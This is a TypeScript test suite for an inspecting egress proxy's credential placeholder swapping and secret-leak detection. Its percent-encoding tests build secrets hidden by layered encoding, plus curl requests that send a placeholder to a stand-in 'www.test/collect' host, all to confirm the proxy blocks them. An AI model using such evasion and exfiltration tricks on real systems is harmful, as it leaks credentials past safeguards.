/**
 * What the inspecting proxy does to request content on its way out, seen from the upstream server: real
 * values arrive byte-exact, placeholders survive redaction to be swapped, secrets do not. Real clients (curl
 * through a session, as the sandbox's bridge connects it) and real HTTPS servers on loopback.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { createScanner } from '../src/dlp/index.js';
import { checksummedToken, SAMPLES, seededRandom } from '../src/dlp/samples.js';
import { CertificateAuthority } from '../src/egress/ca.js';
import type { EgressSession } from '../src/egress/index.js';
import { PlaceholderRegistry } from '../src/secrets/placeholders.js';
import { bridgeToSession, compile, curl, httpsViaProxy, startTestProxy, startTlsEchoServer, type TestProxy } from './egress-helpers.js';

const policy = (dlpAction: string): string => `
network:
  - id: inspected
    allow: [api.test, www.test, stream.test]
    inspect: true
  - id: loopback-targets
    allow: [127.0.0.1]
credentials:
  - id: unicode
    secret: unicode-password
    hosts: [api.test]
  - id: deploy
    secret: deploy-key
    hosts: [api.test]
  - id: url-reserved
    secret: url-reserved-password
    hosts: [api.test]
dlp:
  action: ${dlpAction}
`;

describe('egress request content', () => {
  const dir = mkdtempSync(join(tmpdir(), 'gatehouse-content-'));
  const caFile = join(dir, 'proxy-ca.pem');
  let gate: TestProxy;
  let api: Awaited<ReturnType<typeof startTlsEchoServer>>;
  /** A host no credential grant names: where an exfiltrated placeholder would go. */
  let www: Awaited<ReturnType<typeof startTlsEchoServer>>;
  /** Streams back, as server-sent events, a real value it learnt earlier (no Content-Length). */
  let stream: { port: number; close(): void };
  let session: EgressSession;
  let bridge: Awaited<ReturnType<typeof bridgeToSession>>;
  const placeholders = new PlaceholderRegistry();
  // Two-, three- and four-byte UTF-8 characters (ü, €, ☃, 𝄞): none of them fits in latin1 as one byte.
  const realUnicode = 'Kennwort7f3a9c8d2e1bXy-schlüssel€☃𝄞';
  const realDeployKey = checksummedToken('ghp_', seededRandom(21));
  // Every character that means something in a URL: path and query separators, the fragment, parameter
  // delimiters, an escape that is not one, a space, and a plus that form decoding would read as a space.
  const realReserved = 'Zq8mN3vR7tY2kL9/pw?rd#1&x=2%41 b+c';
  let proxyCaPem = '';
  const grant = (secret: string) => {
    const found = gate.holder.current.grants({ agent: 'alice' }).find((g) => g.secret === secret);
    assert.ok(found, `a grant for ${secret}`);
    return found;
  };

  before(async () => {
    const proxyCa = await CertificateAuthority.create('Test proxy CA');
    const publicCa = await CertificateAuthority.create('Test public CA');
    writeFileSync(caFile, proxyCa.certificatePem);
    proxyCaPem = proxyCa.certificatePem;
    api = await startTlsEchoServer(publicCa, 'api.test');
    www = await startTlsEchoServer(publicCa, 'www.test');
    const pair = await publicCa.issue('stream.test');
    const streamServer = createHttpsServer({ cert: pair.certificate, key: pair.key }, (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(`data: first ${realDeployKey}\n\n`);
      setTimeout(() => response.end(`data: second ${realDeployKey}\n\n`), 50);
    });
    await new Promise<void>((resolve) => streamServer.listen(0, '127.0.0.1', resolve));
    stream = {
      port: (streamServer.address() as AddressInfo).port,
      close: () => {
        streamServer.closeAllConnections();
        streamServer.close();
      },
    };
    gate = await startTestProxy(policy('block'), {
      ca: proxyCa,
      upstreamCa: [publicCa.certificatePem],
      scanner: createScanner(),
      placeholders,
      settings: { resolve: { 'api.test': ['127.0.0.1'], 'www.test': ['127.0.0.1'], 'stream.test': ['127.0.0.1'] } },
    });
    session = await gate.proxy.openSession({ agent: 'alice' }, 'sess-c');
    bridge = await bridgeToSession(session.socketPath);
  });
  after(async () => {
    await bridge.close();
    await gate.close();
    await api.close();
    await www.close();
    stream.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const viaSession = (args: string[]): ReturnType<typeof curl> => curl(['--cacert', caFile, '-x', `http://127.0.0.1:${bridge.port}`, ...args]);

  it('swaps in a real value with multi-byte UTF-8 characters byte-exact in the body', async () => {
    const placeholder = placeholders.issue('sess-c', grant('unicode-password'), realUnicode);
    const bodyFile = join(dir, 'unicode-body.json');
    // The agent's own non-ASCII text around the placeholder must pass untouched as well.
    writeFileSync(bodyFile, `{"password":"${placeholder.value}","note":"naïve ☃ café"}`);
    const result = await viaSession(['-X', 'POST', '--data-binary', `@${bodyFile}`, `https://api.test:${api.port}/v1/login`]);
    assert.equal(result.status, 200, result.stderr + result.body);
    const seen = api.requests.at(-1);
    assert.equal(seen?.url, '/v1/login');
    assert.deepEqual(seen.bodyBytes, Buffer.from(`{"password":"${realUnicode}","note":"naïve ☃ café"}`, 'utf8'));
  });

  it('swaps in a real value with multi-byte UTF-8 characters byte-exact in a header', async () => {
    const placeholder = placeholders.issue('sess-c', grant('unicode-password'), realUnicode);
    const result = await viaSession(['-H', `X-Password: ${placeholder.value}`, `https://api.test:${api.port}/v1/header`]);
    assert.equal(result.status, 200, result.stderr + result.body);
    const seen = api.requests.at(-1);
    assert.equal(seen?.url, '/v1/header');
    const header = seen.rawHeaders[seen.rawHeaders.findIndex((name) => name.toLowerCase() === 'x-password') + 1];
    assert.deepEqual(Buffer.from(header ?? '', 'latin1'), Buffer.from(realUnicode, 'utf8'), 'the header carries the value as UTF-8 bytes');
  });

  it('swaps a real value with multi-byte UTF-8 characters into a URL as percent-encoded UTF-8', async () => {
    const placeholder = placeholders.issue('sess-c', grant('unicode-password'), realUnicode);
    const result = await viaSession([`https://api.test:${api.port}/v1/query?password=${placeholder.value}&x=1`]);
    assert.equal(result.status, 200, result.stderr + result.body);
    const seen = api.requests.at(-1);
    assert.equal(seen?.url, `/v1/query?password=${encodeURIComponent(realUnicode)}&x=1`);
    assert.equal(new URL(seen.url, 'https://api.test').searchParams.get('password'), realUnicode);
  });

  it('swaps a real value with URL-reserved characters into a query percent-encoded, so it stays one value', async () => {
    const placeholder = placeholders.issue('sess-c', grant('url-reserved-password'), realReserved);
    // The client encodes the placeholder as it would any value (it holds "/", "?", "#", "&", "%", " ", "+" too).
    const sent = encodeURIComponent(placeholder.value);
    const result = await httpsViaProxy({ connectTo: { path: session.socketPath }, host: 'api.test', port: api.port, ca: proxyCaPem, path: `/v1/query?password=${sent}&x=1` });
    assert.equal(result.status, 200, result.body);
    const seen = api.requests.at(-1);
    const encoded = 'Zq8mN3vR7tY2kL9%2Fpw%3Frd%231%26x%3D2%2541%20b%2Bc';
    assert.equal(seen?.url, `/v1/query?password=${encoded}&x=1`);
    const url = new URL(seen.url, 'https://api.test');
    assert.equal(url.searchParams.get('password'), realReserved);
    assert.equal(url.searchParams.get('x'), '1', 'the parameter after the secret is still its own');
    // The server quoted the URL back: the agent reads its placeholder there, not the secret.
    assert.ok(!result.body.includes(encoded) && !result.body.includes(realReserved), result.body);
    assert.ok(result.body.includes(`password=${sent}`), result.body);
  });

  it('swaps a real value with URL-reserved characters into a path segment percent-encoded, so it stays one segment', async () => {
    // With a "/" too: encoded, it stays inside the segment, and the real value's "/" is encoded again.
    const real = 'Zq8mN3vR7tY2kL9;pw/rd?x#1&x=2%41 b+c';
    const placeholder = placeholders.issue('sess-c', grant('url-reserved-password'), real);
    const result = await httpsViaProxy({ connectTo: { path: session.socketPath }, host: 'api.test', port: api.port, ca: proxyCaPem, path: `/v1/users/${encodeURIComponent(placeholder.value)}/keys` });
    assert.equal(result.status, 200, result.body);
    const seen = api.requests.at(-1);
    assert.equal(seen?.url, '/v1/users/Zq8mN3vR7tY2kL9%3Bpw%2Frd%3Fx%231%26x%3D2%2541%20b%2Bc/keys');
    assert.deepEqual(new URL(seen.url, 'https://api.test').pathname.split('/').map(decodeURIComponent), ['', 'v1', 'users', real, 'keys']);
  });

  it('swaps a placeholder the client left unencoded in a query, percent-encoding the real value', async () => {
    const placeholder = placeholders.issue('sess-c', grant('url-reserved-password'), 'Zq8mN3vR7tY2kL9/a?b');
    assert.match(placeholder.value, /\/.*\?/, 'the placeholder keeps the "/" and "?" a query may carry as they are');
    const result = await httpsViaProxy({ connectTo: { path: session.socketPath }, host: 'api.test', port: api.port, ca: proxyCaPem, path: `/v1/raw?token=${placeholder.value}&x=1` });
    assert.equal(result.status, 200, result.body);
    assert.equal(api.requests.at(-1)?.url, '/v1/raw?token=Zq8mN3vR7tY2kL9%2Fa%3Fb&x=1');
  });

  it('swaps a placeholder the client form-encoded in a form body, percent-encoding the real value', async () => {
    // An OAuth token request: curl form-encodes the placeholder ("/" as %2F, "+" as %2B, a space as "+").
    const placeholder = placeholders.issue('sess-c', grant('url-reserved-password'), realReserved);
    const result = await viaSession(['--data-urlencode', `client_secret=${placeholder.value}`, '--data-urlencode', 'grant_type=client_credentials', `https://api.test:${api.port}/oauth/token`]);
    assert.equal(result.status, 200, result.stderr + result.body);
    const seen = api.requests.at(-1);
    assert.equal(seen?.url, '/oauth/token');
    const form = new URLSearchParams(seen.bodyBytes.toString('utf8'));
    assert.equal(form.get('client_secret'), realReserved, 'the server reads the real value as one field');
    assert.equal(form.get('grant_type'), 'client_credentials', 'the field after it is still its own');
  });

  it('swaps a placeholder in JSON that curl -d labelled a form as it is, not percent-encoded', async () => {
    const placeholder = placeholders.issue('sess-c', grant('url-reserved-password'), realReserved);
    const json = JSON.stringify({ token: placeholder.value });
    const result = await viaSession(['-d', json, `https://api.test:${api.port}/v1/json-as-form`]);
    assert.equal(result.status, 200, result.stderr + result.body);
    const seen = api.requests.at(-1);
    assert.match(String(seen?.headers['content-type']), /x-www-form-urlencoded/, 'curl -d labels the body a form');
    assert.deepEqual(JSON.parse((seen?.bodyBytes ?? Buffer.alloc(0)).toString('utf8')), { token: realReserved });
  });

  it('in redact mode, redacts a real secret but still swaps the placeholder beside it', async () => {
    const previous = gate.holder.current;
    gate.holder.current = compile(policy('redact'));
    try {
      const placeholder = placeholders.issue('sess-c', grant('deploy-key'), realDeployKey);
      // The placeholder is shaped like the real key, so a fresh scan would take it for a leak.
      assert.ok(createScanner().scan(placeholder.value).length > 0, 'the placeholder looks like a secret to the scanner');
      const leaked = checksummedToken('ghp_', seededRandom(33));
      const result = await viaSession(['-X', 'POST', '--data-binary', `deploy=${placeholder.value}&leak=${leaked}`, `https://api.test:${api.port}/v1/deploy`]);
      assert.equal(result.status, 200, result.stderr + result.body);
      const seen = api.requests.at(-1);
      assert.equal(seen?.url, '/v1/deploy');
      assert.ok(seen.body.startsWith(`deploy=${realDeployKey}&leak=`), `the real key arrived: ${seen.body}`);
      assert.ok(!seen.body.includes(leaked), 'the other secret was redacted');
      assert.match(seen.body, /REDACTED/);
      assert.equal(Number(seen.headers['content-length']), seen.bodyBytes.length);
    } finally {
      gate.holder.current = previous;
    }
  });

  it('gives the agent back its placeholder where the server reflects the real value', async () => {
    const placeholder = placeholders.issue('sess-c', grant('deploy-key'), realDeployKey);
    // --compressed asks for gzip; the proxy asks the server for a plain body instead, so it can mask it.
    const result = await viaSession(['--compressed', '-X', 'POST', '--data-binary', `deploy=${placeholder.value}`, `https://api.test:${api.port}/v1/echo`]);
    assert.equal(result.status, 200, result.stderr + result.body);
    assert.equal(api.requests.at(-1)?.body, `deploy=${realDeployKey}`, 'the server got the real value');
    assert.equal(api.requests.at(-1)?.headers['accept-encoding'], 'identity');
    assert.ok(!result.body.includes(realDeployKey), 'the agent never reads the real value');
    const echoed = JSON.parse(result.body) as { body: string };
    assert.equal(echoed.body, `deploy=${placeholder.value}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
    const record = gate.audit.records.find((r) => r.action === 'request' && r.resource === `https://api.test:${api.port}/v1/echo`);
    assert.equal(record?.details?.masked, 1);
  });

  it('masks a real value in a streamed response piece by piece, and it still streams', async () => {
    const placeholder = placeholders.issue('sess-c', grant('deploy-key'), realDeployKey);
    const result = await viaSession(['-N', `https://stream.test:${stream.port}/events`]);
    assert.equal(result.status, 200, result.stderr + result.body);
    assert.equal(result.headers['transfer-encoding'], 'chunked', 'not held back to be measured');
    assert.equal(result.body, `data: first ${placeholder.value}\n\ndata: second ${placeholder.value}\n\n`);
  });

  describe('percent-encoded content, read as the server decodes it', () => {
    const token = (seed: number): string => checksummedToken('ghp_', seededRandom(seed));
    /** Every byte as `%XX`, as no client needs to but any server decodes. */
    const everyByte = (text: string): string => [...Buffer.from(text, 'utf8')].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
    const refusedBeforeTheServer = async (args: string[], reason: string): Promise<string> => {
      const before = api.requests.length;
      const result = await viaSession(args);
      assert.equal(result.status, 403, result.stderr + result.body);
      assert.equal(result.headers['x-gatehouse-reason'], reason);
      assert.equal(api.requests.length, before, 'nothing reached the server');
      return result.body;
    };

    it('blocks a secret percent-encoded in a query (ghp%5F…)', async () => {
      const secret = token(41);
      const body = await refusedBeforeTheServer([`https://api.test:${api.port}/v1/search?q=docs&ref=${secret.replace('_', '%5F')}`], 'secret-detected');
      assert.match(body, /percent-encoded in the URL/);
      assert.match(body, /github-pat/);
    });

    it('blocks a secret percent-encoded in a form body (sk%2Dant%2D…)', async () => {
      const secret = SAMPLES['anthropic-api-key']!(seededRandom(47));
      const body = await refusedBeforeTheServer(['-X', 'POST', '--data-binary', `note=hello&key=${secret.replaceAll('-', '%2D')}`, `https://api.test:${api.port}/v1/keys`], 'secret-detected');
      assert.match(body, /percent-encoded in the body/);
    });

    it('blocks a private key in a form body, its spaces sent as "+" and its newlines as %0A', async () => {
      const pem = SAMPLES['private-key']!(seededRandom(48));
      // What a browser form or URLSearchParams sends.
      const form = new URLSearchParams({ key: pem }).toString();
      assert.ok(form.includes('BEGIN+RSA+PRIVATE+KEY') && form.includes('%0A'), form.slice(0, 60));
      await refusedBeforeTheServer(['-X', 'POST', '--data-binary', form, `https://api.test:${api.port}/v1/keys`], 'secret-detected');
    });

    it('blocks a secret with every byte percent-encoded, in a body of any content type', async () => {
      const body = await refusedBeforeTheServer(
        ['-X', 'POST', '-H', 'content-type: text/plain', '--data-binary', `leak=${everyByte(token(42))}`, `https://api.test:${api.port}/v1/notes`],
        'secret-detected',
      );
      assert.match(body, /percent-encoded in the body/);
    });

    it('blocks a secret percent-encoded twice (%255F), in the query and in the path', async () => {
      const secret = token(43);
      await refusedBeforeTheServer([`https://api.test:${api.port}/v1/search?token=${secret.replace('_', '%255F')}`], 'secret-detected');
      await refusedBeforeTheServer([`https://api.test:${api.port}/v1/${everyByte(secret).replaceAll('%', '%25')}/x`], 'secret-detected');
    });

    it('blocks a secret percent-encoded in a JSON string whose "%" is itself a JSON escape (\\u0025)', async () => {
      const secret = token(49);
      const json = `{"note":"line\\n","ref":"${secret.replace('_', '\\u00255F')}"}`;
      assert.equal((JSON.parse(json) as { ref: string }).ref, secret.replace('_', '%5F'), 'a JSON parser reads ghp%5F…');
      await refusedBeforeTheServer(['-X', 'POST', '-H', 'content-type: application/json', '--data-binary', json, `https://api.test:${api.port}/v1/notes`], 'secret-detected');
    });

    it('blocks a secret percent-encoded in a header value (a cookie a server decodes)', async () => {
      await refusedBeforeTheServer(['-H', `Cookie: session=${everyByte(token(44))}`, `https://api.test:${api.port}/v1/me`], 'secret-detected');
    });

    it('refuses a URL encoded more than eight layers deep, which it cannot read to the end', async () => {
      // "A" nine times encoded: %41, %2541, %252541, …
      const nine = `%${'25'.repeat(8)}41`;
      const before = api.requests.length;
      const result = await viaSession([`https://api.test:${api.port}/v1/search?q=${nine}`]);
      assert.equal(result.status, 400, result.stderr + result.body);
      assert.equal(result.headers['x-gatehouse-reason'], 'bad-request');
      assert.match(result.body, /percent-encoded more than 8 layers deep in the URL/);
      assert.equal(api.requests.length, before);
    });

    it('in redact mode, redacts a percent-encoded secret where it sits, and the rest arrives byte-exact', async () => {
      const previous = gate.holder.current;
      gate.holder.current = compile(policy('redact'));
      try {
        const inQuery = token(45);
        const inBody = token(46);
        const result = await viaSession([
          '-X',
          'POST',
          '--data-binary',
          `key=${inBody.replace('_', '%255F')}&sum=1%2B1+is+2&odd=%zz`,
          `https://api.test:${api.port}/v1/search?q=a%20b&token=${everyByte(inQuery)}&next=%2Fhome`,
        ]);
        assert.equal(result.status, 200, result.stderr + result.body);
        const seen = api.requests.at(-1);
        assert.equal(seen?.url, '/v1/search?q=a%20b&token=[REDACTED:github-pat]&next=%2Fhome');
        assert.equal(seen.body, 'key=[REDACTED:github-pat]&sum=1%2B1+is+2&odd=%zz');
        assert.equal(Number(seen.headers['content-length']), seen.bodyBytes.length);
        const record = gate.audit.records.findLast((r) => r.action === 'request' && String(r.resource).includes('/v1/search'));
        assert.equal(record?.details?.redacted, true);
        assert.deepEqual(record?.details?.percentEncoded, ['URL', 'body']);
      } finally {
        gate.holder.current = previous;
      }
    });

    it('refuses a percent-encoded placeholder heading to a host its grant does not name', async () => {
      const placeholder = placeholders.issue('sess-c', grant('deploy-key'), realDeployKey);
      for (const [index, args] of [
        [`https://www.test:${www.port}/collect?k=${everyByte(placeholder.value)}`],
        ['-X', 'POST', '--data-binary', `stolen=${placeholder.value.replace(/[A-Za-z]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)}`, `https://www.test:${www.port}/collect`],
      ].entries()) {
        const result = await viaSession(args);
        assert.equal(result.status, 403, `case ${index}: ${result.stderr}${result.body}`);
        assert.equal(result.headers['x-gatehouse-reason'], 'placeholder-exfiltration');
      }
      assert.equal(www.requests.length, 0, 'the placeholder never left');
      const record = gate.audit.records.findLast((r) => r.details?.reasonCode === 'placeholder-exfiltration');
      assert.deepEqual(record?.details?.attemptedExfiltration, { secret: 'deploy-key', rule: 'deploy', session: 'sess-c' });
    });

    it('passes a clean URL and body with ordinary and malformed escapes unchanged', async () => {
      const url = '/v1/files/a%2Fb/report%20final.txt?q=hello%20world&path=%2Ftmp%2Fx&plus=a+b&pct=100%25&odd=%zz%4&end=%';
      const result = await viaSession(['-X', 'POST', '--data-binary', 'comment=100%25+sure&bad=%G1%', `https://api.test:${api.port}${url}`]);
      assert.equal(result.status, 200, result.stderr + result.body);
      const seen = api.requests.at(-1);
      assert.equal(seen?.url, url);
      assert.equal(seen.body, 'comment=100%25+sure&bad=%G1%');
    });
  });
});
